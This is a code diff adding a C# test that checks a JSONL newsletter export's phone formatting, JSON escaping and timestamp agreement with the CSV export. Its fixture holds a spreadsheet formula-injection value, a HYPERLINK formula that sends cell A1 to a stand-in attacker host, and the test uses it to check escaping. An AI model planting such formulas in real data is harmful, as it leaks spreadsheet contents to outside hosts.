@@ -71,6 +71,26 @@ public abstract class AudienceExportTests<TDatabase>(TDatabase database) : IClas
     }
 
     [Fact]
+    public async Task A_jsonl_export_writes_phones_as_they_are_and_timestamps_as_the_csv_does()
+    {
+        var jsonl = Path.Combine(_directory, "newsletter.jsonl");
+        var csv = Path.Combine(_directory, "newsletter.csv");
+
+        await Exporter().RunAsync("newsletter", ConsentChannel.Email, ExportFormat.Jsonl, jsonl, null, CancellationToken.None);
+        await Exporter().RunAsync("newsletter", ConsentChannel.Email, ExportFormat.Csv, csv, null, CancellationToken.None);
+
+        var member = (await File.ReadAllLinesAsync(jsonl)).Single(l => l.Contains("p1@example.com", StringComparison.Ordinal));
+        Assert.Contains("\"phone\":\"+447700900123\"", member, StringComparison.Ordinal);
+        Assert.DoesNotContain("\\u", member, StringComparison.Ordinal);
+        // Still JSON: the formula-like name's quotes are escaped, and it reads back as it was.
+        var parsed = JsonDocument.Parse(member).RootElement;
+        Assert.Equal("=HYPERLINK(\"http://evil.example/\"&A1,\"open\")", parsed.GetProperty("givenName").GetString());
+        var csvEnteredAt = (await File.ReadAllLinesAsync(csv)).Single(l => l.Contains("p1@example.com", StringComparison.Ordinal)).Split(',')[^1];
+        Assert.Equal("2026-11-20T12:00:00Z", csvEnteredAt);
+        Assert.Equal(csvEnteredAt, parsed.GetProperty("enteredAt").GetString());
+    }
+
+    [Fact]
     public async Task An_export_interrupted_after_the_first_page_leaves_the_previous_file_and_no_partial_file()
     {
         var file = Path.Combine(_directory, "newsletter.csv");
